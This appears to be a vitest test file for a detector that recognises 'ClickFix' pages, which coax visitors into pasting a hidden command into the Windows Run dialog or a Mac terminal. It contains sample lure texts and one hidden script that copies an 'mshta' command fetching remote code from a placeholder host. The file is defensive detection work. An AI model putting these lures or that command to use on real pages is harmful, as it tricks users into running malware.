import { describe, expect, it } from 'vitest';
import { tellsToPaste } from '../../utils/scan/clickfix.ts';

const page = (...lines: readonly string[]) =>
  `<html><head><style>p{}</style></head><body>${lines.map(it => `<p>${it}</p>`).join('')}</body></html>`;

describe('a page that tells people to paste a command', () => {
  it.each([
    [
      'in plain words',
      page('Verify you are human', 'Press Win + R', 'Press Ctrl + V', 'Press Enter'),
    ],
    [
      'in entities',
      page('Verification steps', '<b>Windows</b>&nbsp;&#43; <b>R</b>', 'CTRL &#43; V'),
    ],
    [
      'in Japanese',
      page('私はロボットではありません', 'Windows キー + R を押します', 'Ctrl + V で貼り付け'),
    ],
    ['for a Mac', page('Complete the verification', 'Press ⌘ + Space', 'Open Terminal and paste')],
    [
      'as a run dialog',
      page('I am not a robot', 'Open the Run dialog', 'Paste the verification hash'),
    ],
  ])('%s', (_, html) => {
    expect(tellsToPaste(html)).toBe(true);
  });
});

it('a command that nobody sees is a trap under any pretext', () => {
  const steps = page('Fix it: press Win + R', 'Press Ctrl + V, then Enter');
  expect(tellsToPaste(`${steps}<script>copy('mshta https://x.example')</script>`)).toBe(true);
});

describe('an honest page', () => {
  const long = 'It is a known trick, and here is how it works in detail. '.repeat(90);
  it.each([
    [
      'instructions for a program',
      page('Press Win + R and type cmd', 'Paste the path and press Enter'),
    ],
    [
      'instructions with a check',
      page('Press Windows + R', 'Paste the command', 'Verify the installation'),
    ],
    ['a form with a captcha', page('Contact us', 'I am not a robot', 'Send')],
    ['shortcuts of an editor', page('Ctrl + V pastes', 'Ctrl + C copies', 'Win + R opens Run')],
    ['a check for humans alone', page('Verify you are human by completing the action below')],
    ['how to paste text', page('Paste your code here', 'Verification code')],
    [
      'an article about the trick',
      page('Verify you are human', 'Press Win + R', 'Press Ctrl + V', long),
    ],
    ['a help page about robots', page('Are you a robot or human?', 'Our robots mow the lawn')],
    [
      'words only in a script',
      '<html><body><p>Hello</p><script>"Verify you are human Win + R Ctrl + V"</script></body></html>',
    ],
    ['nothing', ''],
  ])('%s', (_, html) => {
    expect(tellsToPaste(html)).toBe(false);
  });

  it('takes time in proportion to its length', () => {
    expect(tellsToPaste('<'.repeat(500_000))).toBe(false);
    expect(tellsToPaste('<script>'.repeat(60_000))).toBe(false);
  });
});
